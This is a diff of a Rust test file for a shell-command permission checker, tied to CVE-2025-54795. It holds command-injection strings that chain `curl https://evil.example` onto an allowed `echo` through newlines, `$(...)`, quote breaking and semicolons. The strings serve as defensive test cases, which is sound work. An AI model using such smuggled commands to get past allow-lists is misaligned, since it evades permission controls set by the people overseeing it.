@@ -40,7 +40,7 @@ fn allowed(list: &[&str]) {
 /// CVE-2025-54795: text around an allowed `echo` was parsed apart from the shell.
 #[test]
 fn text_around_an_allowed_echo_is_read_as_the_shell_reads_it() {
-    denied(&["echo a\ncurl https://evil.example", "echo \"$(curl https://evil.example)\"", "echo '\\'; curl https://evil.example; echo '", "echo a;curl https://evil.example"]);
+    denied(&["echo a\ncurl https://evil.example", "echo \"$(curl https://evil.example)\"", "echo '\\'; curl https://evil.example; echo ''", "echo a;curl https://evil.example"]);
     allowed(&["echo 'a; curl https://evil.example'", "echo \\; curl https://evil.example"]);
 }
 
